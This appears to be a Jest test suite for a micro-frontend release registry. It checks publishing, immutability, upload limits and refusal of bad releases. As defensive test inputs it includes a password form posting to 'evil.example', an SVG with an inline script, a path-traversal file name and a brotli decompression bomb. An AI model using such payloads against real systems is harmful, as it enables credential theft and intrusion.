import { Readable } from 'node:stream';
import { brotliCompressSync } from 'node:zlib';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import type { Problem } from '@bindery/shared/contracts';
import { describeOnDatabases } from '../../testing/test-databases';
import { waitUntil } from '../../testing/until';
import { aRelease, sri, type ARelease } from './testing/a-release';
import { A_SECOND_MS, PATH, STAFF, TestRegistry } from './testing/test-registry';

describeOnDatabases('publishing releases on $name', ({ open }) => {
  let registry: TestRegistry;
  beforeAll(async () => {
    registry = await TestRegistry.open(open);
  });
  afterAll(() => registry.close());
  beforeEach(() => registry.empty());

  describe('a published version', () => {
    it('is served by every process within a second after its activation, and not before', async () => {
      await registry.published('v1');
      expect(await registry.listed()).toBeUndefined();
      const file = await registry.otherShop.get('/mfe/cart_mfe/v1/remoteEntry.v1.js');
      expect([file.statusCode, file.body]).toEqual([200, '/* cart_mfe v1 */']);
      expect(await registry.activate('v1')).toMatchObject({
        status: 200,
        data: { name: 'cart_mfe', version: 'v1' },
      });
      expect(await registry.listed()).toBe('v1');
      await waitUntil(
        'the other process lists it',
        async () => (await registry.listed(registry.otherShop)) === 'v1',
        A_SECOND_MS,
      );
    });

    it('cannot be changed', async () => {
      await registry.published('v1');
      const secondAnswer = await registry.publish(aRelease('cart_mfe', 'v1', {}, '/* something else */'));
      expect(secondAnswer).toMatchObject({ status: 409, code: 'release_exists' });
      expect((await registry.shop.get('/mfe/cart_mfe/v1/remoteEntry.v1.js')).body).toBe('/* cart_mfe v1 */');
    });

    it.each([
      ['page.html', '<form action="https://evil.example"><input name="password"></form>'],
      ['picture.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ])('lets %s run, request and send nothing', async (name, text) => {
      const version = name.replace('.', '-');
      const good = aRelease('cart_mfe', version);
      const names = { ...(good.release['files'] as object), [name]: sri(text) };
      const sentRelease = {
        ...aRelease('cart_mfe', version, { files: names }),
        files: { ...good.files, [name]: text },
      };
      expect(await registry.publish(sentRelease)).toMatchObject({ status: 201 });
      const { statusCode, headers } = await registry.shop.get(`/mfe/cart_mfe/${version}/${name}`);
      expect(statusCode).toBe(200);
      expect(headers).toMatchObject({
        'content-security-policy': "default-src 'none'; frame-ancestors 'none'; sandbox",
        'x-content-type-options': 'nosniff',
      });
    });

    it('is stored once after two simultaneous publications', async () => {
      const answers = await Promise.all([
        registry.publish(aRelease('cart_mfe', 'twice', {}, '/* of one */')),
        registry.publish(aRelease('cart_mfe', 'twice', {}, '/* of another */')),
      ]);
      expect(answers.map(({ status }) => status).sort()).toEqual([201, 409]);
      expect((await registry.activate('twice')).status).toBe(200);
      const { body } = await registry.otherShop.get('/mfe/cart_mfe/twice/remoteEntry.twice.js');
      const winner = answers[0].status === 201 ? '/* of one */' : '/* of another */';
      expect(body).toBe(winner);
    });
  });

  describe('a refused release', () => {
    const good = aRelease('cart_mfe', 'v1');
    const entry = 'remoteEntry.v1.js';
    it.each<[string, ARelease, string, RegExp]>([
      [
        'a file is not what it promises',
        { ...good, files: { [entry]: 'evil' } },
        'file_damaged',
        /remoteEntry\.v1\.js is not/,
      ],
      [
        'a compressed copy is of other bytes',
        { ...good, files: { ...good.files, [`${entry}.gz`]: 'x' } },
        'file_damaged',
        /v1\.js\.gz is not/,
      ],
      [
        'a compressed copy unpacks to more than its file',
        { ...good, files: { ...good.files, [`${entry}.br`]: brotliCompressSync(Buffer.alloc(1_000_000)) } },
        'file_damaged',
        /v1\.js\.br is not/,
      ],
      ['a file was not sent', { ...good, files: {} }, 'file_missing', /remoteEntry\.v1\.js was not sent/],
      [
        'a file is in no list',
        { ...good, files: { ...good.files, 'more.js': 'x' } },
        'file_unknown',
        /more\.js is not in release\.json/,
      ],
      [
        'it does not exist here',
        aRelease('cart_mfe', 'v1', { environments: ['development'] }),
        'not_here',
        /this shop is production/,
      ],
      [
        'it has another contract',
        aRelease('cart_mfe', 'v1', { contractVersion: 2 }),
        'contract_version',
        /contract version 2.*knows 1/,
      ],
      [
        'its entry has another integrity',
        aRelease('cart_mfe', 'v1', { integrity: sri('x') }),
        'integrity_differs',
        /"integrity" is not that/,
      ],
      [
        'its entry is none of its files',
        aRelease('cart_mfe', 'v1', { entry: 'x.js' }),
        'file_missing',
        /does not name x\.js/,
      ],
    ])('is reported with the reason if %s, and nothing is stored', async (_, release, code, why) => {
      const answer = await registry.publish(release);
      expect(answer).toMatchObject({ status: 422, code: 'release_refused', errors: [{ code }] });
      expect(answer.detail).toMatch(why);
      expect((await registry.ask('GET', '/cart_mfe')).data.builds).toEqual([]);
      expect((await registry.ask('GET', '/cart_mfe/history')).data.acts).toEqual([]);
    });

    it('has the name of another remote, or is a page without its list of assets', async () => {
      expect(await registry.publish(good, STAFF, 'builder_mfe')).toMatchObject({
        status: 422,
        errors: [{ code: 'name_differs' }],
      });
      const page = aRelease('shell', 'v9');
      expect((await registry.publish(page)).detail).toMatch(/does not name index\.html; .*assets\.json/);
    });

    it.each([
      ['is no form', { 'content-type': 'application/json' }, '{}'],
      [
        'is cut short',
        { 'content-type': 'multipart/form-data; boundary=b' },
        '--b\r\nContent-Disposition: form-data; name="file"; filename="a.js"\r\n\r\nx',
      ],
      ['has no release.json', { 'content-type': 'multipart/form-data; boundary=b' }, '--b--\r\n'],
    ])('is an upload that %s', async (_, headers, payload) => {
      const url = `${PATH}/cart_mfe/versions`;
      const answer = await registry.shop.app.inject({
        method: 'POST',
        url,
        headers: { ...STAFF, ...headers },
        payload,
      });
      expect([answer.statusCode, answer.json<Problem>().code]).toEqual([400, 'upload_unreadable']);
    });

    const MB = 1024 * 1024;
    it.each([
      ['whose files are too large together', 5, 15 * MB, 400],
      ['with a file that is too large', 1, 17 * MB, 413],
      ['of too many files', 1501, 1, 413],
    ])('is an upload %s', async (_, count, bytes, status) => {
      const content = Buffer.alloc(bytes);
      function* form() {
        for (let index = 0; index < count; index += 1) {
          const about = `Content-Disposition: form-data; name="file"; filename="${index}.js"`;
          yield `--b\r\n${about}\r\nContent-Type: text/javascript\r\n\r\n`;
          yield content;
          yield '\r\n';
        }
        yield '--b--\r\n';
      }
      const answer = await registry.shop.app.inject({
        ...{ method: 'POST', url: `${PATH}/cart_mfe/versions`, payload: Readable.from(form()) },
        headers: { ...STAFF, 'content-type': 'multipart/form-data; boundary=b' },
      });
      expect(answer.statusCode).toBe(status);
      expect((await registry.ask('GET', '/cart_mfe')).data.builds).toEqual([]);
    });

    it('has a release.json above the size limit', async () => {
      const answer = await registry.publish(
        aRelease('cart_mfe', 'v1', { routes: Array<string>(100_000).fill('cart') }),
      );
      expect(answer).toMatchObject({ status: 400, code: 'upload_unreadable' });
      expect(answer.detail).toMatch(/release\.json is larger than 512 KB/);
    });

    it.each([
      ['environments', { environments: 'all' }],
      ['version', { version: 'v'.repeat(101) }],
      ['files', { files: { [entry]: sri('x'), '../../other/v1/a.js': sri('x') } }],
      ['files', { files: { [entry]: sri('x'), 'two words.js': sri('x') } }],
    ])('is reported with the invalid part of release.json: %s', async (part, changes) => {
      const answer = await registry.publish(aRelease('cart_mfe', 'v1', changes));
      expect(answer).toMatchObject({ status: 400, detail: expect.stringContaining(`/${part}`) });
    });
  });
});
